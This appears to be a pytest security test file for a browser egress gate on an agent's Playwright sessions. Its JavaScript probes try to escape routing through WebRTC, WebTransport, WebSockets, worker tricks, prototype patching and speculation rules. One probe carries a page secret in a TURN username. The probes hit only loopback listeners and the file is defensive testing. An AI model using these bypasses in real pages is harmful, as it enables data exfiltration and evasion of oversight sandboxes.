"""Attack probes on egress the gate's routing never sees: connections a page opens without
an HTTP request through Playwright's routes.

The probes run as script in a granted page (``origins.run_js``, outside any action, as a
page's own timer would), all at once, each against a UDP and a TCP listener of its own on
loopback, and each listener must hear nothing. Each of these reached its listener before the
browser was locked down (measured on the session's own Chromium; checked again, with the
page's guards taken out, when they were batched):

- **WebRTC**: a peer connection's ICE gathering sends STUN binding requests (UDP) and opens
  TURN allocations over TCP, to any host and port the page names, with a username it
  chooses; from the page's window, or from a frame's fresh window (``about:blank``).
- **WebTransport**: QUIC over UDP to any host, from the page or from a worker (a worker's
  later task, or its very first: before the gate's session reaches it), or from a worker's
  own worker (which no session of the gate's ever reached).
- **WebSockets**: a socket's handshake passes no route; one to another port of the granted
  host (another origin) connected, by the constructor, its prototype's, a subclass,
  ``Reflect.construct``, a fresh frame's window, a worker's first or later task, or a
  worker's own worker.

With the worker guard taken out (``GUARDED_WORKERS``; the gate's later evaluation in each
worker still in place), 9 of the 15 first-task probes (FIRST_TASK) were heard in one run
and 8 of 13 in an earlier one; which ones varies with the race against that evaluation.
Three probe the guard itself (a URL or options that answer differently when asked twice, a
frame where it cannot read).
- **Preloading**: speculation rules make Chromium fetch (prefetch) or load and run
  (prerender) a page in the browser process, where Playwright's routes never apply; here a
  path outside the grant's ``/shop/*`` reached the server (another site's URL is probed too).

A ``<link rel=preconnect>`` or ``dns-prefetch`` hint reached nothing even before; it is
probed too.
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import time
from collections.abc import Callable, Iterator

import pytest

from handrail.executor import Session
from tests.conftest import AgentSetup, Stack
from tests.executor.attacks import Origins, open_probe

pytestmark = pytest.mark.browser


class Listeners:
    """A UDP and a TCP socket on loopback; every datagram and connection they get is kept."""

    def __init__(self) -> None:
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        for s in (self.udp, self.tcp):
            s.settimeout(0.1)
        self.heard: list[str] = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=f, daemon=True) for f in (self._read_udp, self._accept)]
        for t in self._threads:
            t.start()

    @property
    def udp_port(self) -> int:
        return int(self.udp.getsockname()[1])

    @property
    def tcp_port(self) -> int:
        return int(self.tcp.getsockname()[1])

    def _note(self, what: str) -> None:
        with self._lock:
            self.heard.append(what)

    def _read_udp(self) -> None:
        while not self._stop.is_set():
            try:
                data, _ = self.udp.recvfrom(4096)
            except OSError:
                continue
            self._note(f"udp {len(data)} bytes")

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                continue
            self._note("tcp connection")
            conn.close()

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(1)
        self.udp.close()
        self.tcp.close()


@contextlib.contextmanager
def listening(names: list[str]) -> Iterator[dict[str, Listeners]]:
    """A pair of listeners for each probe, so that what is heard names the probe that sent
    it (and an earlier probe's QUIC, resent for seconds, lands on ports of its own)."""
    heard = {name: Listeners() for name in names}
    try:
        yield heard
    finally:
        for each in heard.values():
            each.close()


def _run_all(origins: Origins, session: Session, probes: dict[str, str], wait_s: float) -> dict[str, str]:
    """Run each probe's script in the page at once, each in its own try; what each threw
    (``""`` when nothing), read back through the page's title."""
    runs = " ".join(
        f"try {{ {code} }} catch (e) {{ thrown[{json.dumps(name)}] = e.name; }}" for name, code in probes.items()
    )
    origins.run_js(f"const thrown = {{}}; {runs} document.title = JSON.stringify(thrown);")
    time.sleep(wait_s)
    thrown: dict[str, str] = json.loads(session.observe().title)
    return {name: thrown.get(name, "") for name in probes}


def _peer(window: str, udp: int, tcp: int) -> str:
    """Script: a peer connection from ``window`` gathering candidates against a STUN server
    (UDP) and a TURN server (TCP) on the listeners, the page's secret as TURN username."""
    servers = [
        {"urls": f"stun:127.0.0.1:{udp}"},
        {"urls": f"turn:127.0.0.1:{tcp}?transport=tcp", "username": "card-4242", "credential": "x"},
    ]
    return (
        f"const PC = {window}.RTCPeerConnection || {window}.webkitRTCPeerConnection;"
        f" const pc = new PC({{iceServers: {json.dumps(servers)}}}); pc.createDataChannel('x');"
        " pc.createOffer().then((o) => pc.setLocalDescription(o));"
    )


_FRAME = "(() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow; })()"


def _transport(udp: int) -> str:
    return f"new WebTransport('https://127.0.0.1:{udp}/x').ready.catch(() => {{}});"


def _in_worker(code: str) -> str:
    return f"new Worker(URL.createObjectURL(new Blob([{json.dumps(code)}], {{type: 'text/javascript'}})));"


def _socket(make: str) -> Callable[[int, int], str]:
    return lambda udp, tcp: make.replace("PORT", str(tcp))


# Each probe: its script, given its own UDP and TCP listener ports.
PROBES: dict[str, Callable[[int, int], str]] = {
    "webrtc-from-the-page": lambda udp, tcp: _peer("window", udp, tcp),
    "webrtc-from-a-fresh-frame": lambda udp, tcp: _peer(_FRAME, udp, tcp),
    "webtransport-from-the-page": lambda udp, tcp: _transport(udp),
    "webtransport-from-a-worker-later": lambda udp, tcp: _in_worker(f"setTimeout(() => {{ {_transport(udp)} }}, 200);"),
    "preconnect-and-dns-prefetch": lambda udp, tcp: (
        "for (const rel of ['preconnect', 'dns-prefetch']) { const l = document.createElement('link');"
        f" l.rel = rel; l.href = 'http://127.0.0.1:{tcp}/'; document.head.append(l); }}"
    ),
    # A WebSocket's messages are effects, as a POST's body is, and its handshake passes no
    # route: only the page's own origin is reached (another port of the granted host is
    # another origin). A same-origin socket still opens: test_websocket_orders.py.
    "websocket": _socket("new WebSocket('ws://127.0.0.1:PORT/orders')"),
    "websocket-by-http-url": _socket("new WebSocket('http://127.0.0.1:PORT/orders')"),
    "websocketstream": _socket("new WebSocketStream('ws://127.0.0.1:PORT/orders').opened.catch(() => {})"),
    "websocket-by-prototype": _socket("new WebSocket.prototype.constructor('ws://127.0.0.1:PORT/orders')"),
    "websocket-by-subclass": _socket("new (class extends WebSocket {})('ws://127.0.0.1:PORT/orders')"),
    "websocket-by-reflect": _socket("Reflect.construct(WebSocket, ['ws://127.0.0.1:PORT/orders'])"),
    "websocket-from-a-fresh-frame": _socket(f"new ({_FRAME}).WebSocket('ws://127.0.0.1:PORT/orders')"),
    "webtransport-from-a-nested-worker-later": lambda udp, tcp: _in_worker(
        _in_worker(f"setTimeout(() => {{ {_transport(udp)} }}, 200);")
    ),
    "websocket-from-a-nested-worker-later": _socket(
        _in_worker(_in_worker("setTimeout(() => new WebSocket('ws://127.0.0.1:PORT/orders'), 200)"))
    ),
    "websocket-from-a-worker-later": _socket(
        _in_worker("setTimeout(() => new WebSocket('ws://127.0.0.1:PORT/orders'), 200)")
    ),
}


def _none_heard(
    stack: Stack, agent: AgentSetup, origins: Origins, table: dict[str, Callable[[int, int], str]]
) -> tuple[Session, dict[str, str]]:
    """Run every probe of ``table`` at once in a granted /shop/ page, each against listeners
    of its own; assert that none was heard. The session, and what each probe threw."""
    session = open_probe(stack, agent, origins, "/shop/thanks", path_globs=["/shop/*"])
    with listening(list(table)) as heard:
        probes = {name: make(heard[name].udp_port, heard[name].tcp_port) for name, make in table.items()}
        thrown = _run_all(origins, session, probes, wait_s=1.5)
        assert {name: each.heard for name, each in heard.items() if each.heard} == {}, thrown
    return session, thrown


def test_a_page_opens_no_connection_around_the_routes(stack: Stack, agent: AgentSetup, origins: Origins) -> None:
    _, thrown = _none_heard(stack, agent, origins, PROBES)
    # Made in the page, a socket to another origin is refused where it is made.
    sockets = {name: thrown[name] for name in PROBES if name.startswith("websocket") and "worker" not in name}
    assert set(sockets.values()) == {"SecurityError"}, sockets


def _module_worker(code: str) -> str:
    return (
        f"new Worker(URL.createObjectURL(new Blob([{json.dumps(code)}], {{type: 'text/javascript'}})),"
        " {type: 'module'});"
    )


def _data_module(code: str) -> str:
    return "data:text/javascript," + code.replace("%", "%25").replace("#", "%23")


# A worker's very first task, before any session of the gate's can reach it (Playwright lets
# a worker run the moment it attaches): the guard must already be in front of its source
# (executor/browser/_workerstart.py). Each way a page could make that worker, or keep the
# guard from going in front.
FIRST_TASK: dict[str, Callable[[int, int], str]] = {
    "blob-worker": lambda udp, tcp: _in_worker(_transport(udp)),
    "blob-worker-socket": _socket(_in_worker("new WebSocket('ws://127.0.0.1:PORT/orders')")),
    "fetched-worker": lambda udp, tcp: f"new Worker('/shop/transport-worker.js?port={udp}');",
    "data-url-worker": lambda udp, tcp: (
        f"new Worker('data:text/javascript,' + encodeURIComponent({json.dumps(_transport(udp))}));"
    ),
    "fetched-module-worker": lambda udp, tcp: (
        f"new Worker('/shop/module-worker.js?port={udp}', {{type: 'module'}});"  # its import opens it
    ),
    # A frame where synchronous requests are not allowed, and a Blob whose text the guard
    # did not keep (a slice of one): it cannot be read, so the worker is refused, not let go
    # unguarded.
    "no-sync-xhr-frame": lambda udp, tcp: (
        "const f = document.createElement('iframe'); f.allow = \"sync-xhr 'none'\"; f.src = '/shop/thanks';"
        " f.onload = () => { const w = f.contentWindow; try { new w.Worker(w.URL.createObjectURL("
        f"new w.Blob([{json.dumps(_transport(udp))}]).slice(0))); }} catch (e) {{ window.noSyncXhr = e.name; }} }};"
        " document.body.append(f);"
    ),
    # A module's imports are evaluated before its body: one of them opens it.
    "module-worker-import": lambda udp, tcp: _module_worker(f"import {json.dumps(_data_module(_transport(udp)))};"),
    # "classic" when the guard asks, "module" when the constructor does.
    "options-that-change": lambda udp, tcp: (
        "let asked = 0; new Worker(URL.createObjectURL(new Blob(["
        + json.dumps(f"import {json.dumps(_data_module(_transport(udp)))};")
        + "])), {get type() { return asked++ ? 'module' : 'classic'; }});"
    ),
    # A harmless script when the guard reads the URL, the attack when the constructor does.
    "url-that-changes": lambda udp, tcp: (
        "const ok = URL.createObjectURL(new Blob(['1']));"
        f" const bad = URL.createObjectURL(new Blob([{json.dumps(_transport(udp))}]));"
        " let read = 0; new Worker({toString() { return read++ ? bad : ok; }});"
    ),
    # The prototypes the guard would use, patched first: a read that says nothing, a scheme
    # that is never blob:, a prologue that swallows the whole source.
    "patched-prototypes": lambda udp, tcp: (
        "XMLHttpRequest.prototype.open = function () {}; XMLHttpRequest.prototype.send = function () {};"
        " Object.defineProperty(URL.prototype, 'protocol', {get() { return 'x:'; }});"
        " RegExp.prototype.exec = function () { return ['x'.repeat(1e6)]; };" + _in_worker(_transport(udp))
    ),
    "subclass": lambda udp, tcp: (
        f"new (class extends Worker {{}})(URL.createObjectURL(new Blob([{json.dumps(_transport(udp))}])));"
    ),
    "prototype-constructor": lambda udp, tcp: (
        f"new Worker.prototype.constructor(URL.createObjectURL(new Blob([{json.dumps(_transport(udp))}])));"
    ),
    "reflect": lambda udp, tcp: (
        f"Reflect.construct(Worker, [URL.createObjectURL(new Blob([{json.dumps(_transport(udp))}]))]);"
    ),
    "fresh-frame": lambda udp, tcp: (
        f"new ({_FRAME}).Worker(URL.createObjectURL(new Blob([{json.dumps(_transport(udp))}])));"
    ),
    # A worker's own worker: no session of the gate's reaches it, nor any route its script.
    "nested-worker": lambda udp, tcp: _in_worker(_in_worker(_transport(udp))),
}


def test_a_workers_first_task_opens_nothing(stack: Stack, agent: AgentSetup, origins: Origins) -> None:
    session, thrown = _none_heard(stack, agent, origins, FIRST_TASK)
    # The guard reads with its own copies of what the page patched: that worker is made
    # (nothing thrown), and guarded all the same (nothing heard).
    assert thrown["patched-prototypes"] == "", thrown
    # Where the guard cannot read a worker's script, the worker is refused where it is made.
    origins.run_js("document.title = String(window.noSyncXhr);")
    assert session.observe().title == "SecurityError"


def test_a_guarded_worker_keeps_its_url_and_its_strictness(stack: Stack, agent: AgentSetup, origins: Origins) -> None:
    session = open_probe(stack, agent, origins, "/shop/thanks", path_globs=["/shop/*"])
    origins.run_js(
        "const w = new Worker('/shop/strict-worker.js?v=1#frag'); w.onmessage = (e) => { document.title = e.data; };"
    )
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and not (title := session.observe().title).startswith("{"):
        time.sleep(0.1)
    seen = json.loads(title)
    assert seen == {
        "strict": True,  # its "use strict" is still its directive prologue
        "href": f"{origins.home}/shop/strict-worker.js?v=1#frag",  # relative URLs resolve as before
        "transport": "undefined",
        "worker": "undefined",
    }


def _workers_say(stack: Stack, agent: AgentSetup, origins: Origins, url: str, blob: str) -> dict[str, str]:
    """What a worker of ``url`` and one of a Blob of the JavaScript text ``blob`` post
    first, made by a granted page (keys ``http`` and ``blob``)."""
    session = open_probe(stack, agent, origins, "/shop/thanks", path_globs=["/shop/*"])
    origins.run_js(
        "const said = {}; const hear = (name) => (e) => { said[name] = e.data; document.title = JSON.stringify(said); };"
        f" new Worker({json.dumps(url)}).onmessage = hear('http');"
        f" new Worker(URL.createObjectURL(new Blob([{json.dumps(blob)}]))).onmessage = hear('blob');"
    )
    return _said(session, 2)


def test_a_worker_script_with_a_byte_order_mark_stays_strict(stack: Stack, agent: AgentSetup, origins: Origins) -> None:
    # A worker's script is decoded as UTF-8 with a leading BOM dropped: the guard goes
    # after the directive prologue behind it, not in front of the mark.
    code = "\ufeff'use strict'; postMessage(String((function () { return this === undefined; })()));"
    seen = _workers_say(stack, agent, origins, "/shop/bom-worker.js", code)
    assert json.loads(seen.pop("http")) == {"strict": True, "transport": "undefined"}
    assert seen == {"blob": "true"}


def test_a_comment_ended_by_a_carriage_return_hides_no_code(stack: Stack, agent: AgentSetup, origins: Origins) -> None:
    # JavaScript ends a line comment at \r, \u2028 and \u2029 too: a worker's code behind
    # one runs after the guard, from a URL and from a Blob alike.
    code = "// a comment\u2028postMessage(typeof WebTransport)\n"
    seen = _workers_say(stack, agent, origins, "/shop/cr-worker.js", code)
    assert seen == {"http": "undefined", "blob": "undefined"}


def _said(session: Session, names: int) -> dict[str, str]:
    """What the page's workers said, as its title holds it (JSON), once ``names`` have
    (or after 5 s, with what is there)."""
    deadline, seen = time.monotonic() + 5, {}
    while time.monotonic() < deadline and len(seen) < names:
        time.sleep(0.1)
        title = session.observe().title
        seen = json.loads(title) if title.startswith("{") else {}
    return seen


_STRICT_WORKERS = (
    'const code = "postMessage(typeof WebTransport)"; const seen = {};'
    " const said = (name) => (e) => { seen[name] = e.data; document.title = JSON.stringify(seen); };"
    " const made = {"
    "  blob: () => new Worker(URL.createObjectURL(new Blob([code]))),"
    "  bytes: () => new Worker(URL.createObjectURL(new Blob([new TextEncoder().encode(code)]))),"
    "  file: () => new Worker(URL.createObjectURL(new File(['/* a file */', code], 'w.js'))),"
    "  data: () => new Worker('data:text/javascript,' + encodeURIComponent(code)),"
    "  fetched: () => fetch('/shop/strict-worker.js').then((r) => r.blob())"
    "    .then((b) => new Worker(URL.createObjectURL(b))),"
    " };"
    " for (const [name, make] of Object.entries(made)) {"
    "  try { Promise.resolve(make()).then((w) => { w.onmessage = said(name); }, (e) => { seen[name] = e.name; }); }"
    "  catch (e) { seen[name] = e.name; document.title = JSON.stringify(seen); } }"
)


def test_a_strict_connect_src_keeps_its_workers(stack: Stack, agent: AgentSetup, origins: Origins) -> None:
    # ``connect-src 'self'`` forbids a read of a blob: or data: URL: the guard keeps the
    # text of the Blobs (and the script responses taken as Blobs) the page makes instead.
    session = open_probe(stack, agent, origins, "/shop/strict-csp", path_globs=["/shop/*"])
    origins.run_js(_STRICT_WORKERS)
    seen = _said(session, 5)
    fetched = json.loads(seen.pop("fetched"))
    assert seen == {"blob": "undefined", "bytes": "undefined", "file": "undefined", "data": "undefined"}
    assert (fetched["strict"], fetched["transport"]) == (True, "undefined")


def test_trusted_types_keep_their_workers(stack: Stack, agent: AgentSetup, origins: Origins) -> None:
    # Under ``require-trusted-types-for 'script'`` a worker's URL must be a TrustedScriptURL:
    # the guard hands the page's own on (its URL announced as read through the type's own
    # toString), and makes one of its own for the guarded Blob and data: sources it builds.
    session = open_probe(stack, agent, origins, "/shop/trusted-types", path_globs=["/shop/*"])
    seen = _said(session, 5)
    http, lying = json.loads(seen.pop("http")), json.loads(seen.pop("lying"))
    assert seen == {"blob": "undefined", "data": "undefined", "plain": "TypeError"}
    assert (http["strict"], http["transport"], http["worker"]) == (True, "undefined", "undefined")
    # Announced by its real URL (a lying toString is not asked): guarded from its first task.
    assert (lying["href"].endswith("?lying"), lying["transport"]) == (True, "undefined")


def test_trusted_types_that_forbid_the_guards_policy_refuse_rebuilt_workers(
    stack: Stack, agent: AgentSetup, origins: Origins
) -> None:
    # ``trusted-types app``: no policy of another name may be made, so a Blob or data:
    # worker, whose guarded source needs the guard's own policy, is refused where it is
    # made (never made unguarded); a worker of the page's origin needs none.
    session = open_probe(stack, agent, origins, "/shop/trusted-types?policies=app", path_globs=["/shop/*"])
    seen = _said(session, 5)
    http = json.loads(seen.pop("http"))
    assert seen.pop("blob") == seen.pop("data") == "SecurityError"
    assert (http["transport"], seen["plain"]) == ("undefined", "TypeError")


_SPECULATION = (
    "const s = document.createElement('script'); s.type = 'speculationrules';"
    " s.textContent = JSON.stringify(RULES); document.head.append(s);"
)


def test_speculation_rules_load_nothing(stack: Stack, agent: AgentSetup, origins: Origins) -> None:
    # Outside the grant's paths on its own origin, and on another site.
    session = open_probe(stack, agent, origins, "/shop/thanks", path_globs=["/shop/*"])
    rules = {
        kind: [
            {
                "source": "list",
                "urls": [f"/admin/panel?via={kind}", f"{origins.elsewhere}/admin/panel?via={kind}"],
                "eagerness": "immediate",
            }
        ]
        for kind in ("prefetch", "prerender")
    }
    before_home, before_else = len(origins.reached("home")), len(origins.reached("elsewhere"))
    origins.run_js(_SPECULATION.replace("RULES", json.dumps(rules)))
    time.sleep(1.5)
    assert origins.reached("home")[before_home:] == [], session.observe().title
    assert origins.reached("elsewhere")[before_else:] == []


def test_the_worker_announcement_path_is_no_way_around_the_gate(
    stack: Stack, agent: AgentSetup, origins: Origins
) -> None:
    # The gate answers a worker's announcement itself; a page that loads that path as a
    # document (on another origin, with a query the gate would refuse) is judged as any load.
    session = open_probe(stack, agent, origins, "/shop/thanks", path_globs=["/shop/*"])
    before = session.observe()
    origins.run_js(f"location.href = {json.dumps(origins.elsewhere + '/__handrail__/worker-script?u=x&t=x')};")
    time.sleep(1.0)
    after = session.observe()
    assert after.url == before.url, after.url
    assert origins.reached("elsewhere") == []
